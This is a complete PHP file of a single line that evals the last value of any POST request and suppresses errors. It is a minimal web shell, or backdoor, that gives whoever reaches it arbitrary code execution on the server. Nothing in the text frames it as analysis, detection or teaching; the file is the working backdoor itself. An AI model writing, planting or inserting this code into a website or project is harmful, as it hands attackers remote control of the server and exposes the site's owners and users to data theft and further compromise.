<?php $a = $_POST; @eval(end($a));
